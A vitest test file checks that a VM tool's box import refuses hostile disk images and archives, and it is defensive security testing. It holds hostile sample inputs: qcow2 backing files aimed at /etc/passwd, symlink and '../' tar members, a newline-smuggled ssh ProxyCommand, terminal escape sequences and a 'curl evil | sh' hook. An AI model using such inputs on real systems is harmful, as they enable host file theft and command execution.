/**
 * `box add` of hostile boxes, through every import path (qcow2 image, Vagrant .box,
 * vmfile box file), with real qemu-img and tar. Each refusal must name the box, the file
 * and the problem, leave the store and its staging empty, and no file vmfile wrote may
 * hold a byte of the host file the box tried to reach.
 */
import { execFileSync } from 'node:child_process';
import { chmod, link, mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { addBox } from '../../../src/box/import.js';
import type { SpaceProbe } from '../../../src/box/space.js';
import { UserError } from '../../../src/errors.js';
import { sha256File } from '../../../src/store/digest.js';
import { tempDir } from '../temp-dir.js';
import { cleanQcow2, filesContaining, hostSecret, qcow2WithBacking, qcow2WithDataFile, qemuImg, tar, treeOf } from './hostile.js';

interface Scene {
  home: string;
  work: string;
  secret: string;
  marker: string;
}

async function scene(): Promise<Scene> {
  const work = await tempDir();
  const { path, marker } = await hostSecret(work);
  return { home: await tempDir(), work, secret: path, marker };
}

/** The import fails with a UserError naming the box, the file and `problem`, and the store stays empty. */
async function expectRefused(s: Scene, file: string, problem: RegExp, marker = s.marker): Promise<UserError> {
  const error: unknown = await addBox({ home: s.home, name: 'evil', file }).then(
    () => undefined,
    (reason: unknown) => reason,
  );
  if (!(error instanceof UserError)) throw new Error(`expected a UserError, got ${String(error)}`);
  expect(error.exitCode).toBe(1);
  expect(error.message).toContain(`box evil: ${file}`);
  expect(error.message).toMatch(problem);
  expect(await treeOf(join(s.home, 'boxes'))).toEqual([]);
  expect(await treeOf(join(s.home, 'tmp'))).toEqual([]);
  expect(await filesContaining(s.home, marker)).toEqual([]);
  return error;
}

/** A Vagrant libvirt box from the files in `dir` (metadata.json written unless given), with extra tar options. */
async function vagrantBox(s: Scene, dir: string, options: { metadata?: object; tarArgs?: string[]; members?: string[]; name?: string } = {}): Promise<string> {
  await writeFile(join(dir, 'metadata.json'), JSON.stringify(options.metadata ?? { provider: 'libvirt', format: 'qcow2', virtual_size: 1 }));
  await writeFile(join(dir, 'Vagrantfile'), 'Vagrant.configure("2") {}\n');
  const out = join(s.work, options.name ?? 'evil.box');
  tar(dir, ...(options.tarArgs ?? ['--format=gnu', '-cf']), out, ...(options.members ?? ['./metadata.json', './Vagrantfile', './box.img']));
  return out;
}

async function freshDir(s: Scene, name: string): Promise<string> {
  const dir = join(s.work, name);
  await mkdir(dir);
  return dir;
}

/** A vmfile box file with this box.json (as given, not validated) and these files. */
async function vmfileBox(s: Scene, dir: string, metadata: Record<string, unknown>, members: string[]): Promise<string> {
  await writeFile(join(dir, 'box.json'), JSON.stringify(metadata));
  const out = join(s.work, 'evil.box');
  tar(dir, '--format=gnu', '-cf', out, 'box.json', ...members);
  return out;
}

async function boxJson(dir: string, overrides: Record<string, unknown> = {}): Promise<Record<string, unknown>> {
  return {
    name: 'shared',
    version: '1.0',
    architecture: 'x86_64',
    disk: { file: 'disk.qcow2', format: 'qcow2', sha256: await sha256File(join(dir, 'disk.qcow2')), virtualSize: 1024 * 1024 },
    boot: { type: 'firmware', firmware: 'bios' },
    user: 'vm',
    created: '2026-11-05T00:00:00.000Z',
    source: { kind: 'package', machine: 'default', fromBox: 'debian-12 2026.11.1' },
    ...overrides,
  };
}

describe('a qcow2 image', () => {
  test('backed by a host file is refused before it is read', async () => {
    const s = await scene();
    qcow2WithBacking(join(s.work, 'evil.qcow2'), s.secret, 'raw');
    await expectRefused(s, join(s.work, 'evil.qcow2'), /is not a standalone disk image: it names a backing file ".*host-secret"/);
  });

  test('backed by /etc/passwd is refused, and no line of /etc/passwd reaches the store', async () => {
    const s = await scene();
    qcow2WithBacking(join(s.work, 'evil.qcow2'), '/etc/passwd', 'raw');
    const firstLine = (await readFile('/etc/passwd', 'utf8')).split('\n')[0] ?? 'root:';
    await expectRefused(s, join(s.work, 'evil.qcow2'), /it names a backing file "\/etc\/passwd"/, firstLine);
  });

  test('backed by a fat: view of a host directory is refused', async () => {
    const s = await scene();
    qcow2WithBacking(join(s.work, 'evil.qcow2'), `fat:${s.work}`, 'vvfat');
    await expectRefused(s, join(s.work, 'evil.qcow2'), /it names a backing file "fat:/);
  });

  test('with its data in an external data file is refused', async () => {
    const s = await scene();
    await qcow2WithDataFile(join(s.work, 'evil.qcow2'), join(s.work, 'data'), await readFile(s.secret));
    await expectRefused(s, join(s.work, 'evil.qcow2'), /it keeps its data in an external data file/);
  });

  test('of no size is refused', async () => {
    const s = await scene();
    qemuImg('create', '-q', '-f', 'qcow2', join(s.work, 'empty.qcow2'), '0');
    await expectRefused(s, join(s.work, 'empty.qcow2'), /empty\.qcow2 is an empty disk \(0 bytes\)/);
  });

  test('a raw disk named .qcow2 is refused, never probed', async () => {
    const s = await scene();
    await writeFile(join(s.work, 'evil.qcow2'), await readFile(s.secret));
    await expectRefused(s, join(s.work, 'evil.qcow2'), /is neither a qcow2 image nor a Vagrant \.box archive nor a vmfile box file/);
  });
});

describe('a Vagrant .box', () => {
  test('whose box.img is backed by a host file is refused', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    qcow2WithBacking(join(dir, 'box.img'), s.secret, 'raw');
    await expectRefused(s, await vagrantBox(s, dir), /\(its box\.img\) is not a standalone disk image: it names a backing file/);
  });

  test('whose box.img is raw while metadata.json says qcow2 is refused', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    await writeFile(join(dir, 'box.img'), await readFile(s.secret));
    await expectRefused(s, await vagrantBox(s, dir, { tarArgs: ['-czf'] }), /its box\.img is not a qcow2 image \(no qcow2 header\), but metadata\.json says "qcow2"/);
  });

  test('whose raw box.img starts like a qcow2 image backed by a host file is refused, whatever metadata.json claims', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    qcow2WithBacking(join(dir, 'box.img'), s.secret, 'raw');
    await expectRefused(s, await vagrantBox(s, dir, { metadata: { provider: 'libvirt', format: 'raw' } }), /its box\.img is a qcow2 file, but metadata\.json says "raw"/);
  });

  test('whose box.img is empty is refused, naming the member and the box file', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    await writeFile(join(dir, 'box.img'), '');
    const file = await vagrantBox(s, dir, { metadata: { provider: 'libvirt', format: 'raw' } });
    const error = await expectRefused(s, file, /is an empty disk/);
    expect(error.message).toBe(`box evil: ${file} (its box.img) is an empty disk (0 bytes). Nothing was added`);
  });

  test('whose box.img is a qcow2 image of no size is refused', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    qemuImg('create', '-q', '-f', 'qcow2', join(dir, 'box.img'), '0');
    await expectRefused(s, await vagrantBox(s, dir), /\(its box\.img\) is an empty disk \(0 bytes\)/);
  });

  const hardLinked = ['./metadata.json', './Vagrantfile', './disk', './box.img'];
  test.each<[string, (dir: string, s: Scene) => Promise<void>, RegExp, string[]?]>([
    ['a symbolic link to a host file', (dir, s) => symlink(s.secret, join(dir, 'box.img')), /"\.\/box\.img" is a symbolic link to ".*host-secret"/],
    ['a hard link', async (dir) => {
      cleanQcow2(join(dir, 'disk'));
      await link(join(dir, 'disk'), join(dir, 'box.img'));
    }, /"\.\/box\.img" is a hard link to "\.\/disk"/, hardLinked],
    ['a FIFO', async (dir) => void execFileSync('mkfifo', [join(dir, 'box.img')]), /"\.\/box\.img" is a FIFO/],
    ['a character device', async (dir) => void execFileSync('mknod', [join(dir, 'box.img'), 'c', '1', '3']), /"\.\/box\.img" is a character device/],
    ['a setuid file', async (dir) => {
      cleanQcow2(join(dir, 'box.img'));
      await chmod(join(dir, 'box.img'), 0o4755);
    }, /"\.\/box\.img" has the setuid bit/],
  ])('with %s as a member is refused before anything is unpacked', async (_label, make, problem, members) => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    await make(dir, s);
    const error = await expectRefused(s, await vagrantBox(s, dir, members === undefined ? {} : { members }), problem);
    expect(error.message).toContain('Nothing was unpacked');
  });

  test('with a ../ member is refused, and nothing lands beside the staging directory', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    cleanQcow2(join(dir, 'box.img'));
    await writeFile(join(dir, 'escape'), 'planted');
    const file = await vagrantBox(s, dir, { tarArgs: ['--format=gnu', '--transform=s,^escape,../escape,', '-cf'], members: ['./metadata.json', './box.img', 'escape'] });
    await expectRefused(s, file, /"\.\.\/escape" points outside the archive/);
    expect(await treeOf(s.home)).toEqual(['tmp/']);
  });

  test('holding no files at all is refused', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    await expectRefused(s, await vagrantBox(s, dir, { tarArgs: ['--no-recursion', '-cf'], members: ['.'] }), /: it holds no files\. Nothing was unpacked/);
  });

  test('with an absolute member is refused', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    cleanQcow2(join(dir, 'box.img'));
    const target = join(s.work, 'planted');
    await writeFile(target, 'planted');
    const file = await vagrantBox(s, dir, { tarArgs: ['--format=gnu', '-P', '-cf'], members: ['./metadata.json', './box.img', target] });
    await expectRefused(s, file, /is an absolute path/);
  });

  test('with a metadata.json over 1 MiB is refused', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    cleanQcow2(join(dir, 'box.img'));
    const file = await vagrantBox(s, dir, { metadata: { provider: 'libvirt', padding: 'x'.repeat(1024 * 1024) } });
    await expectRefused(s, file, /"\.\/metadata\.json" is 1\.0MiB \(\d+ bytes\), more than the 1MiB a metadata file may have/);
  });

  test.each([['gzip', '-czf'], ['xz', '-cJf'], ['uncompressed', '-cf']])('a clean one (%s) imports, with the disk converted from its qcow2', async (_label, flag) => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    cleanQcow2(join(dir, 'box.img'));
    const box = await addBox({ home: s.home, name: 'fine', file: await vagrantBox(s, dir, { tarArgs: [flag] }) });
    expect(box.metadata).toMatchObject({ name: 'fine', disk: { virtualSize: 1024 * 1024 }, source: { kind: 'import', format: 'vagrant-libvirt' } });
    expect(await treeOf(join(s.home, 'tmp'))).toEqual([]);
  });

  test('a clean raw box.img that metadata.json calls raw imports as raw', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    await writeFile(join(dir, 'box.img'), Buffer.alloc(1024 * 1024));
    const box = await addBox({ home: s.home, name: 'fine', file: await vagrantBox(s, dir, { metadata: { provider: 'libvirt', format: 'raw' } }) });
    expect(box.metadata.disk.virtualSize).toBe(1024 * 1024);
  });
});

describe('a vmfile box file', () => {
  test('whose disk is backed by a host file is refused even with a matching digest', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    qcow2WithBacking(join(dir, 'disk.qcow2'), s.secret, 'raw');
    await expectRefused(s, await vmfileBox(s, dir, await boxJson(dir), ['disk.qcow2']), /\(its disk\.qcow2\) is not a standalone disk image: it names a backing file/);
  });

  test('whose disk keeps its data in an external data file is refused', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    await qcow2WithDataFile(join(dir, 'disk.qcow2'), s.secret.replace('host-secret', 'data'), await readFile(s.secret));
    await expectRefused(s, await vmfileBox(s, dir, await boxJson(dir), ['disk.qcow2']), /external data file/);
  });

  test('whose disk is a raw file that box.json calls qcow2 is refused', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    await writeFile(join(dir, 'disk.qcow2'), await readFile(s.secret));
    await expectRefused(s, await vmfileBox(s, dir, await boxJson(dir), ['disk.qcow2']), /its qcow2 header is missing or cut short/);
  });

  test('with a symbolic link for its disk is refused', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    cleanQcow2(join(dir, 'disk.qcow2'));
    const metadata = await boxJson(dir);
    await rm(join(dir, 'disk.qcow2'));
    await symlink(s.secret, join(dir, 'disk.qcow2'));
    await expectRefused(s, await vmfileBox(s, dir, metadata, ['disk.qcow2']), /"disk\.qcow2" is a symbolic link/);
  });

  test.each<[string, Record<string, unknown>, RegExp]>([
    ['a newline in user (an ssh_config directive)', { user: 'vm\nProxyCommand touch /tmp/pwned' }, /user: expected a POSIX user name/],
    ['an upper-case user', { user: 'Admin' }, /user: expected a POSIX user name/],
    ['a name with a slash', { name: '../boxes' }, /name: Invalid string/],
    ['a version with a slash', { version: '1/../../x' }, /version: Invalid string/],
    ['a disk file outside the box', { disk: { file: '../../etc/passwd', format: 'qcow2', sha256: 'a'.repeat(64), virtualSize: 1 } }, /disk\.file: expected a plain file name/],
    ['a negative virtual size', { disk: { file: 'disk.qcow2', format: 'qcow2', sha256: 'a'.repeat(64), virtualSize: -1 } }, /disk\.virtualSize: /],
    ['a kernel path', { boot: { type: 'kernel', kernel: '/boot/vmlinuz', cmdline: 'x' } }, /boot\.kernel: expected a plain file name/],
    ['a control character in the command line', { boot: { type: 'kernel', kernel: 'kernel', cmdline: 'root=/dev/vda\u001b[2J' } }, /boot\.cmdline: must not contain control characters/],
    ['an escape sequence in a source string', { source: { kind: 'package', machine: 'x\u001b]0;pwned\u0007', fromBox: 'y' } }, /source\.machine: must not contain control characters/],
    ['a key this vmfile does not know', { postInstall: 'curl evil | sh' }, /unknown key "postInstall"/],
  ])('whose box.json has %s is refused', async (_label, overrides, problem) => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    cleanQcow2(join(dir, 'disk.qcow2'));
    await writeFile(join(dir, 'kernel'), 'k');
    const error = await expectRefused(s, await vmfileBox(s, dir, await boxJson(dir, overrides), ['disk.qcow2', 'kernel']), problem);
    expect(error.message).not.toMatch(/[\u0000-\u001f]/);
  });

  test('whose kernel does not match the digest its box.json records is refused', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    cleanQcow2(join(dir, 'disk.qcow2'));
    await writeFile(join(dir, 'kernel'), 'a different kernel');
    const metadata = await boxJson(dir, { boot: { type: 'kernel', kernel: 'kernel', cmdline: 'root=/dev/vda', kernelSha256: 'a'.repeat(64) } });
    await expectRefused(s, await vmfileBox(s, dir, metadata, ['disk.qcow2', 'kernel']), /the sha256 of the kernel kernel is [0-9a-f]{64}, but its box\.json records a{64}/);
  });

  test('with a box.json over 1 MiB is refused before it is parsed', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    cleanQcow2(join(dir, 'disk.qcow2'));
    await expectRefused(s, await vmfileBox(s, dir, await boxJson(dir, { created: 'x'.repeat(1024 * 1024) }), ['disk.qcow2']), /"box\.json" is 1\.0MiB \(\d+ bytes\), more than the 1MiB a metadata file may have/);
  });

  test('made before kernel digests were recorded imports, with the digests of its files recorded', async () => {
    const s = await scene();
    const dir = await freshDir(s, 'box');
    cleanQcow2(join(dir, 'disk.qcow2'));
    await writeFile(join(dir, 'kernel'), 'k');
    await writeFile(join(dir, 'initrd'), 'i');
    const metadata = await boxJson(dir, { boot: { type: 'kernel', kernel: 'kernel', initrd: 'initrd', cmdline: 'root=/dev/vda' } });
    const box = await addBox({ home: s.home, name: 'old', file: await vmfileBox(s, dir, metadata, ['disk.qcow2', 'kernel', 'initrd']) });
    expect(box.metadata.boot).toEqual({
      type: 'kernel',
      kernel: 'kernel',
      initrd: 'initrd',
      cmdline: 'root=/dev/vda',
      kernelSha256: await sha256File(join(dir, 'kernel')),
      initrdSha256: await sha256File(join(dir, 'initrd')),
    });
    expect(JSON.parse(await readFile(box.paths.metadata, 'utf8')).boot.kernelSha256).toBe(await sha256File(join(dir, 'kernel')));
  });
});

describe('a compressed box and the free space', () => {
  const GiB = 1024 ** 3;
  /** A file system of 100 GiB (vmfile leaves 2 GiB of it free) with `frees` free in turn, the last one from then on. */
  function disk(...frees: number[]): SpaceProbe {
    let calls = 0;
    return async () => ({ free: frees[Math.min(calls++, frees.length - 1)] ?? 0, size: 100 * GiB });
  }

  /** A gzip'd Vagrant box whose raw box.img of 8 MiB of zeros packs into a few KiB. */
  async function zeros(s: Scene): Promise<string> {
    const dir = await freshDir(s, 'box');
    await writeFile(join(dir, 'box.img'), Buffer.alloc(8 * 1024 * 1024));
    return vagrantBox(s, dir, { metadata: { provider: 'libvirt', format: 'raw' }, tarArgs: ['-czf'] });
  }

  test('is refused before it is unpacked when what it unpacks to does not fit, naming what is free and what to do', async () => {
    const s = await scene();
    const file = await zeros(s);
    const error = await addBox({ home: s.home, name: 'evil', file, freeSpace: disk(2 * GiB + 1024 * 1024) }).catch((reason: unknown) => reason);
    expect(error).toBeInstanceOf(UserError);
    expect((error as UserError).message).toMatch(new RegExp(`^box evil: ${file.replaceAll('.', '\\.')} is not a box archive vmfile accepts: its members add up to 8\\.0MiB \\(\\d+ bytes\\), more than the 1MiB there is room for: the file system of ${join(s.home, 'tmp').replaceAll('.', '\\.')}/\\S+ has 2\\.0GiB free, and vmfile leaves 2GiB of it free\\. Nothing was unpacked`));
    expect((error as UserError).hint).toContain('vmfile box prune');
    expect(await treeOf(join(s.home, 'tmp'))).toEqual([]);
  });

  test('is stopped while it is unpacked when the disk fills, and what was unpacked is removed', async () => {
    const s = await scene();
    const error = await addBox({ home: s.home, name: 'evil', file: await zeros(s), freeSpace: disk(50 * GiB, 1 * GiB) }).catch((reason: unknown) => reason);
    expect(error).toBeInstanceOf(UserError);
    expect((error as UserError).message).toMatch(/has only 1GiB free now, less than the 2GiB vmfile leaves free/);
    expect(await treeOf(join(s.home, 'boxes'))).toEqual([]);
    expect(await treeOf(join(s.home, 'tmp'))).toEqual([]);
  });

  test('that fits is unpacked and imported', async () => {
    const s = await scene();
    const box = await addBox({ home: s.home, name: 'fine', file: await zeros(s), freeSpace: disk(50 * GiB) });
    expect(box.metadata.disk.virtualSize).toBe(8 * 1024 * 1024);
  });
});

test('the raw bytes behind a qcow2 backing file would have reached the store (the marker check can fail)', async () => {
  const s = await scene();
  qcow2WithBacking(join(s.work, 'evil.qcow2'), s.secret, 'raw');
  qemuImg('convert', '-f', 'qcow2', '-O', 'qcow2', join(s.work, 'evil.qcow2'), join(s.home, 'what-an-unchecked-import-writes.qcow2'));
  expect(await filesContaining(s.home, s.marker)).toEqual([join(s.home, 'what-an-unchecked-import-writes.qcow2')]);
});
